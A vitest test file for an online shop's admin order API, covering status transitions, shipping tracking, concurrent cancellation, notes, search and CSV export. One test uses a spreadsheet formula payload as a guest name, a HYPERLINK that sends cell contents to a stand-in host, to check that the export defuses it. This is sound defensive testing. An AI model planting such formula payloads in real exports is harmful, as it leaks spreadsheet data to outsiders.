import { parse } from "csv/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ORDER_TRANSITIONS } from "#common/orders/order-status";
import { ORDER_STATUSES, type OrderStatus } from "#common/orders/order-status";
import { type TestBrowser, createAccount, signedIn } from "../support/auth-browser";
import { type ShoppingCatalog, browserWithCart, checkoutBody, insertShoppingCatalog, setStock, stockOf } from "../support/shop-fixture";
import { type TestShop, createTestShop } from "../support/test-shop";

let shop: TestShop;
let admin: TestBrowser;
let ids: ShoppingCatalog;
let counter = 0;

beforeAll(async () => {
  shop = await createTestShop();
  ids = await insertShoppingCatalog(shop.db);
  await setStock(shop.db, ids.mug, 100_000);
  await createAccount(shop, { email: "owner@example.com", password: "owner-password-1", role: "admin" });
  admin = await signedIn(shop, "owner@example.com", "owner-password-1");
});
afterAll(() => shop?.close());

const send = (method: string, path: string, body?: unknown) =>
  admin.request(`/api/admin${path}`, { method, headers: { "content-type": "application/json" }, body: body === undefined ? undefined : JSON.stringify(body) });

const mailsTo = (to: string) => shop.services.mailer.outbox.filter((m) => m.to === to);

/** Places a cash-on-delivery order of `quantity` mugs as a new guest, with its own contact. */
async function place(options: { quantity?: number; name?: string; email?: string; phone?: string } = {}) {
  counter += 1;
  const b = await browserWithCart(shop, [{ productId: ids.mug, quantity: options.quantity ?? 1 }]);
  const contact = {
    name: options.name ?? `Buyer ${counter}`,
    email: options.email ?? `buyer${counter}@example.com`,
    phone: options.phone ?? `+1 555 01${String(counter).padStart(2, "0")}`,
  };
  const res = await b.post("/api/orders", checkoutBody({ contact }));
  expect(res.status, await res.clone().text()).toBe(201);
  const { order } = (await res.json()).data as { order: { id: string; number: string } };
  return { ...order, browser: b, contact };
}

/** The shortest way along the table from pending to `status`. */
const PATH: Record<OrderStatus, OrderStatus[]> = {
  pending: [],
  processing: ["processing"],
  shipped: ["processing", "shipped"],
  delivered: ["processing", "shipped", "delivered"],
  completed: ["processing", "shipped", "delivered", "completed"],
  cancelled: ["cancelled"],
};
const SHIP = { courier: "dhl", trackingNumber: "JD0000000001" };

async function orderIn(status: OrderStatus) {
  const order = await place();
  for (const to of PATH[status]) {
    const res = await send("POST", `/orders/${order.id}/transition`, { status: to, ...(to === "shipped" ? SHIP : {}) });
    expect(res.status, await res.clone().text()).toBe(200);
  }
  return order;
}

describe("the order desk's status moves", () => {
  it("makes every move the status table allows the shop and refuses every other one with 409", async () => {
    const outcomes: string[] = [];
    for (const from of ORDER_STATUSES) {
      for (const to of ORDER_STATUSES) {
        if (to === from) continue;
        const order = await orderIn(from);
        const res = await send("POST", `/orders/${order.id}/transition`, { status: to, ...(to === "shipped" ? SHIP : {}) });
        const allowed = ORDER_TRANSITIONS[from][to]?.includes("shop") ?? false;
        outcomes.push(`${from}→${to}: ${res.status}`);
        expect(res.status, `${from} → ${to}: ${await res.clone().text()}`).toBe(allowed ? 200 : 409);
        const now = (await (await send("GET", `/orders/${order.id}`)).json()).data;
        expect(now.status).toBe(allowed ? to : from);
      }
    }
    // The table lets the shop make exactly these moves.
    expect(outcomes.filter((o) => o.endsWith("200")).map((o) => o.replace(/: 200$/, ""))).toEqual([
      "pending→processing",
      "pending→cancelled",
      "processing→shipped",
      "processing→cancelled",
      "shipped→delivered",
      "delivered→completed",
    ]);
  });

  it("offers on the order exactly the moves of the table, and names who made each move on the timeline and in the audit log", async () => {
    const order = await orderIn("processing");
    const res = await send("GET", `/orders/${order.id}`);
    const data = (await res.json()).data;
    expect(data.allowedTransitions).toEqual(["shipped", "cancelled"]);
    expect(data.timeline.map((e: { kind: string; status?: string; actor?: string; by?: string | null }) => [e.kind, e.status, e.actor, e.by])).toEqual([
      ["status", "pending", "customer", null],
      ["status", "processing", "shop", "owner@example.com"],
    ]);
    const { entries } = await shop.services.audit.list({ entity: "order", entityId: order.id });
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({
      action: "order.status",
      actor: { email: "owner@example.com" },
      changes: { status: { before: "pending", after: "processing" } },
    });
  });

  it("ships with a courier of the settings and a tracking number: the customer's mail and order show the tracking link", async () => {
    const order = await orderIn("processing");
    const missing = await send("POST", `/orders/${order.id}/transition`, { status: "shipped" });
    expect(missing.status).toBe(400);
    expect((await missing.json()).error.fields).toEqual({ courier: expect.any(String), trackingNumber: expect.any(String) });
    const unknown = await send("POST", `/orders/${order.id}/transition`, { status: "shipped", courier: "pigeon", trackingNumber: "X1" });
    expect(unknown.status).toBe(400);
    expect((await unknown.json()).error.fields.courier).toBe("Choose one of the shop's couriers.");
    expect((await (await send("GET", `/orders/${order.id}`)).json()).data.status).toBe("processing");

    const shipped = await send("POST", `/orders/${order.id}/transition`, { status: "shipped", courier: "ups", trackingNumber: "1Z 999", note: "Two boxes" });
    expect(shipped.status).toBe(200);
    const url = "https://www.ups.com/track?tracknum=1Z%20999";
    expect((await shipped.json()).data.tracking).toEqual({ courier: "UPS", number: "1Z 999", url });

    // The customer sees it on their order, and in the mail.
    const mine = await order.browser.get(`/api/orders/${order.id}`);
    expect((await mine.json()).data.tracking).toEqual({ courier: "UPS", number: "1Z 999", url });
    await shop.services.orders.idle();
    const mail = mailsTo(order.contact.email).at(-1)!;
    expect(mail.subject).toMatch(/Shipped$/);
    expect(mail.text).toContain(`Track your parcel: ${url}`);
    expect(mail.html).toContain(`href="${url}"`);
  });

  it("puts the stock back exactly once when two operators cancel at once", async () => {
    const before = (await stockOf(shop.db, ids.mug)).product;
    const order = await place({ quantity: 3 });
    expect((await stockOf(shop.db, ids.mug)).product).toBe(before - 3);
    const second = await signedIn(shop, "owner@example.com", "owner-password-1");
    const [one, two] = await Promise.all([
      send("POST", `/orders/${order.id}/transition`, { status: "cancelled" }),
      second.request(`/api/admin/orders/${order.id}/transition`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ status: "cancelled" }),
      }),
    ]);
    expect([one.status, two.status].sort()).toEqual([200, 409]);
    expect((await stockOf(shop.db, ids.mug)).product).toBe(before);
    // And a later cancel changes nothing either.
    expect((await send("POST", `/orders/${order.id}/transition`, { status: "cancelled" })).status).toBe(409);
    expect((await stockOf(shop.db, ids.mug)).product).toBe(before);
  });

  it("marks cash on delivery paid when the order is delivered", async () => {
    const order = await orderIn("shipped");
    expect((await (await send("GET", `/orders/${order.id}`)).json()).data.paymentStatus).toBe("unpaid");
    await send("POST", `/orders/${order.id}/transition`, { status: "delivered" });
    expect((await (await send("GET", `/orders/${order.id}`)).json()).data.paymentStatus).toBe("paid");
  });

  it("moves orders in bulk, each only as the table allows from its own status, and says per order what happened", async () => {
    const pending = await orderIn("pending");
    const processing = await orderIn("processing");
    const cancelled = await orderIn("cancelled");
    const res = await send("POST", "/orders/bulk", { ids: [pending.id, processing.id, cancelled.id, "no-such-order"], status: "processing" });
    expect(res.status).toBe(200);
    const body = await res.json();
    expect(body.meta).toEqual({ moved: 1, skipped: 3 });
    expect(body.data).toEqual([
      { id: pending.id, number: pending.number, ok: true, from: "pending", status: "processing" },
      { id: processing.id, number: processing.number, ok: false, status: "processing", error: "An order that is processing cannot become processing." },
      { id: cancelled.id, number: cancelled.number, ok: false, status: "cancelled", error: "An order that is cancelled cannot become processing." },
      { id: "no-such-order", number: null, ok: false, status: null, error: "There is no such order." },
    ]);
    // A selection of 1,000 orders fits in one request.
    const many = await send("POST", "/orders/bulk", {
      ids: [pending.id, ...Array.from({ length: 999 }, (_, i) => `gone-order-${String(i).padStart(12, "0")}`)],
      status: "cancelled",
    });
    expect(many.status, await many.clone().text()).toBe(200);
    expect((await many.json()).meta).toEqual({ moved: 1, skipped: 999 });
    const bad = await send("POST", "/orders/bulk", { ids: [], status: "teleported" });
    expect(bad.status).toBe(400);
    expect(Object.keys((await bad.json()).error.fields).sort()).toEqual(["ids", "status"]);
  });
});

describe("notes on an order", () => {
  it("keeps internal notes for the staff and mails notes to the customer, who sees only those", async () => {
    const order = await place();
    const internal = await send("POST", `/orders/${order.id}/notes`, { text: "Customer called: ring twice." });
    expect(internal.status).toBe(201);
    const toCustomer = await send("POST", `/orders/${order.id}/notes`, { text: "Your parcel leaves tomorrow morning.", visibleToCustomer: true });
    expect(toCustomer.status).toBe(201);
    expect((await send("POST", `/orders/${order.id}/notes`, { text: "  " })).status).toBe(400);
    expect((await send("POST", "/orders/nope/notes", { text: "Hello" })).status).toBe(404);

    const timeline = (await (await send("GET", `/orders/${order.id}`)).json()).data.timeline.filter((e: { kind: string }) => e.kind === "note");
    expect(timeline.map((n: { text: string; visibleToCustomer: boolean; by: string }) => [n.text, n.visibleToCustomer, n.by])).toEqual([
      ["Customer called: ring twice.", false, "owner@example.com"],
      ["Your parcel leaves tomorrow morning.", true, "owner@example.com"],
    ]);
    const mine = await (await order.browser.get(`/api/orders/${order.id}`)).json();
    expect(mine.data.messages.map((m: { text: string }) => m.text)).toEqual(["Your parcel leaves tomorrow morning."]);
    expect(JSON.stringify(mine)).not.toContain("ring twice");
    await shop.services.orders.idle();
    const mail = mailsTo(order.contact.email).at(-1)!;
    expect(mail.subject).toContain(`A message about your`);
    expect(mail.text).toContain("Your parcel leaves tomorrow morning.");
  });
});

describe("the order list", () => {
  it("searches by number, e-mail, phone or name, filters, sorts, pages, counts per status and exports the same selection as CSV", async () => {
    const ada = await place({ name: "Ada Quillfeather", email: "ada.quill@example.com", phone: "+44 20 7946 0958", quantity: 5 });
    await send("POST", `/orders/${ada.id}/transition`, { status: "processing" });
    const list = async (query: string) => {
      const res = await send("GET", `/orders?${query}`);
      expect(res.status, await res.clone().text()).toBe(200);
      return (await res.json()) as {
        data: Array<{ id: string; number: string; status: string; itemCount: number; customer: { name: string } }>;
        meta: { total: number; counts: Record<string, number> };
      };
    };
    for (const q of [ada.number, ada.number.toLowerCase(), "ADA.QUILL@example.com", "+44 (20) 7946-0958", "quillfeather", "Ada Quill"]) {
      const found = await list(`q=${encodeURIComponent(q)}`);
      expect(
        found.data.map((o) => o.id),
        q,
      ).toEqual([ada.id]);
      expect(found.meta.counts).toMatchObject({ pending: 0, processing: 1 });
    }
    // An order number of letters only (its code is random) is found too, and a hyphenated name.
    const letters = await place({ name: "Anne-Marie Quillon" });
    await shop.db.kysely.updateTable("orders").set({ number: "SO-KVVVDGM" }).where("id", "=", letters.id).execute();
    expect((await list("q=so-kvvvdgm")).data.map((o) => o.id)).toEqual([letters.id]);
    expect((await list("q=Anne-Marie")).data.map((o) => o.id)).toEqual([letters.id]);
    // The search's wildcards are literal characters.
    expect((await list(`q=${encodeURIComponent("%")}`)).meta.total).toBe(0);
    expect((await list(`q=${encodeURIComponent("_")}`)).meta.total).toBe(0);
    const row = (await list(`q=${ada.number}`)).data[0]!;
    expect(row).toMatchObject({
      number: ada.number,
      status: "processing",
      itemCount: 5,
      customer: { name: "Ada Quillfeather" },
      paymentMethod: "cod",
      paymentStatus: "unpaid",
    });

    const all = await list("pageSize=200");
    expect(all.meta.total).toBe(Object.values(all.meta.counts).reduce((a, b) => a + b, 0));
    const pending = await list("status=pending&pageSize=200");
    expect(pending.data.every((o) => o.status === "pending")).toBe(true);
    expect(pending.meta.total).toBe(all.meta.counts.pending);
    const page2 = await list("pageSize=2&page=2");
    expect(page2.data.map((o) => o.id)).toEqual(all.data.slice(2, 4).map((o) => o.id));
    const byTotal = await list("sort=-total&pageSize=200");
    expect(byTotal.data[0]!.id).toBe(ada.id);
    expect((await list("payment=card")).meta.total).toBe(0);
    expect((await list("from=2000-01-01&to=2000-01-31")).meta.total).toBe(0);
    const today = new Date().toISOString().slice(0, 10);
    expect((await list(`from=${today}&to=${today}&pageSize=200`)).meta.total).toBe(all.meta.total);

    for (const bad of ["status=lost", "payment=cheque", "from=yesterday", "from=2026-02-02&to=2026-01-01", "sort=colour", "page=0"]) {
      expect((await send("GET", `/orders?${bad}`)).status, bad).toBe(400);
    }

    const csv = await send("GET", `/orders/export.csv?q=${encodeURIComponent("ada.quill@example.com")}`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const lines = (await csv.text()).trim().split("\n");
    expect(lines[0]).toBe(
      "Number,Date,Customer,E-mail,Phone,Items,Total,Currency,Payment method,Payment status,Status,Tax,Tax country,Tax region,Reverse charge,Company,VAT number",
    );
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`${ada.number},`);
    expect(lines[1]).toContain(",Ada Quillfeather,ada.quill@example.com,");
    expect(lines[1]).toMatch(/,5,\d+\.\d\d,USD,cod,unpaid,processing,0.00,,,,,$/);
  });

  it("exports a guest's name that a spreadsheet would run as a formula behind a quote", async () => {
    const name = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
    const guest = await place({ name, email: "formula.guest@example.com" });
    const res = await send("GET", `/orders/export.csv?q=${encodeURIComponent("formula.guest@example.com")}`);
    const [header, row] = parse(await res.text()) as string[][];
    expect(row![header!.indexOf("Number")]).toBe(guest.number);
    expect(row![header!.indexOf("Customer")]).toBe(`'${name}`);
    expect(row![header!.indexOf("Total")]).toMatch(/^\d+\.\d\d$/);
  });

  it("answers 404 for an unknown order", async () => {
    expect((await send("GET", "/orders/no-such-order")).status).toBe(404);
    expect((await send("POST", "/orders/no-such-order/transition", { status: "processing" })).status).toBe(404);
  });
});
